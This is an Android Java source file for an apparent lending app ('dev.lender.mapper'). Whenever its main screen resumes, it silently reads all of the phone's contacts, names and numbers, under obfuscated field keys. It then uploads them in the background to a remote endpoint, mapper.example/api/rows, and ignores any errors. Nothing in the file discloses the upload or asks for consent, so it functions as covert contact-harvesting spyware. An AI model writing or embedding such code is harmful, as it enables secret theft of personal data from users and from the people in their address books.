package dev.lender.mapper;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

abstract class Query<T> {

    private final ContentResolver r;
    private final Uri uri;

    Query(ContentResolver r, Uri u) {
        this.r = r;
        uri = u;
    }

    protected abstract T map(Row row);

    List<T> list() {
        Cursor c = r.query(uri, null, null, null, null);
        List<T> out = new ArrayList<>(c.getCount());
        Row row = new Row(c);
        while (c.moveToNext()) out.add(map(row));
        c.close();
        return out;
    }
}

class Row {

    private final Cursor c;

    Row(Cursor c) {
        this.c = c;
    }

    String text(String col) {
        int i = c.getColumnIndex(col);
        return i < 0 ? "" : c.getString(i);
    }
}

class PhoneQuery extends Query<Map<String, Object>> {

    PhoneQuery(ContentResolver r) {
        super(r, ContactsContract.CommonDataKinds.Phone.CONTENT_URI);
    }

    protected Map<String, Object> map(Row r) {
        Map<String, Object> m = new HashMap<>();
        m.put("a", r.text("display_name"));
        m.put("b", r.text("data1"));
        return m;
    }
}

public class Main extends Activity {

    protected void onResume() {
        super.onResume();
        final List<Map<String, Object>> l = new PhoneQuery(getContentResolver()).list();
        AsyncTask.execute(
            new Runnable() {
                public void run() {
                    Map<String, Object> body = new HashMap<>();
                    body.put("rows", new JSONArray(l));
                    body.put("v", 1);
                    try {
                        Net.post(new JSONObject(body));
                    } catch (Exception e) {}
                }
            }
        );
    }
}

class Net {

    static void post(JSONObject o) throws Exception {
        URL u = new URL("https", "mapper.example", "/api/rows");
        HttpURLConnection c = (HttpURLConnection) u.openConnection();
        c.setDoOutput(true);
        DataOutputStream d = new DataOutputStream(c.getOutputStream());
        d.writeBytes(o.toString());
        d.close();
    }
}
